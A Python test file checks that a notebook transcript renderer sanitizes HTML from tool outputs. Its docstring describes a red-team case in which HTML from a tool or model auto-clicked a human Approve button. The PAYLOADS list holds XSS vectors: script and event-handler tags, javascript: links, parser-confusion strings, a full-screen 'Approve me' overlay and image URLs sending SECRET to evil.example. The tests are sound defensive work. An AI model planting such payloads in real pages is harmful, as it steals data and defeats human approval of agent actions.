"""Red team: a tool's rich value (a pandas ``Styler`` does not escape its cells; any
``_repr_html_`` may hold the model's text) shown in the live card and the ``text/html``
fallback. The live widgets set ``innerHTML`` unsanitized: before the fix an
``<img onerror>`` in a value ran in JupyterLab and clicked the next card's Approve
(tests/browser/test_redteam_injection.py shows that effect). Here: what reaches the page
holds no element or attribute that can run, fetch, link or style."""

from __future__ import annotations

from html.parser import HTMLParser

import pandas as pd
import pytest

from nb_tools.transcript._html import tool_item_html, transcript_html
from nb_tools.transcript._safe_html import safe_html

PAYLOADS = [
    '<img src="x" onerror="document.querySelector(\'button\').click()">',
    '<img src="https://evil.example/?k=SECRET">',
    "<script>alert(1)</script>",
    '<svg onload="alert(1)"><image href="https://evil.example/s"/></svg>',
    '<div style="position:fixed;inset:0;background:#fff;z-index:9999">Approve me</div>',
    "<style>.jp-OutputArea button{opacity:0}</style>",
    '<a href="javascript:alert(1)">click</a>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<table><tr><td background="https://evil.example/b">x</td></tr></table>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    '<p class="jp-Dialog" id="x" data-x="1" tabindex="0" autofocus onfocus="alert(1)">p</p>',
    '<td colspan="2 onmouseover=alert(1)">x</td>',
]
ALLOWED_ATTRS = {"colspan", "rowspan", "align"}
# The page's own markup around the value (the card): its attributes are ours.
OWN = {"data-nbt", "data-nbt-item", "data-status", "style", "class", "open"}


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def elements(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    p = _Elements()
    p.feed(html)
    p.close()
    return p.found


def _styler(text: str) -> str:
    html = pd.DataFrame({"note": [text]}).style._repr_html_()
    assert "onerror" not in text or "onerror" in html  # pandas really does not escape
    return html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_in_a_value_can_run_fetch_link_or_style(payload: str) -> None:
    for value in (payload, _styler(payload)):
        cleaned = safe_html(value)
        for tag, attrs in elements(cleaned):
            assert tag not in {"img", "script", "svg", "style", "a", "iframe", "math", "image"}
            for name, _ in attrs:
                assert name in ALLOWED_ATTRS, (tag, name, cleaned)


def test_the_live_card_and_the_fallback_hold_the_cleaned_value() -> None:
    value = _styler(PAYLOADS[0] + PAYLOADS[1] + PAYLOADS[4])
    item = {"kind": "tool", "id": "t", "name": "note", "arguments": "{}", "status": "ok"}
    item["result"] = "a note"
    item["display"] = {"text/html": value}
    for html in (tool_item_html(item), transcript_html({"items": [item], "usage": {}})):
        assert "onerror" not in html.replace("onerror=&quot;", "")  # only as text
        for tag, attrs in elements(html):
            assert tag not in {"img", "script"}, tag
            if tag in {"td", "th", "tr", "table"}:
                assert {n for n, _ in attrs} <= ALLOWED_ATTRS, (tag, attrs)
        assert "position:fixed" not in html  # (the page's own <style> is the footer's)
        assert "Approve me" in html  # the text is still there, as text


def test_tables_keep_their_cells_and_spans() -> None:
    frame = pd.DataFrame({"a": [1, 2], "b": ["x<y", "z"]})
    cleaned = safe_html(frame._repr_html_())
    assert "<table>" in cleaned and "<td>x&lt;y</td>" in cleaned
    assert safe_html('<th colspan="3" style="color:red">h</th>') == '<th colspan="3">h</th>'
    assert safe_html("<b>bold <i>both</b> rest") == "<b>bold <i>both</i></b> rest"
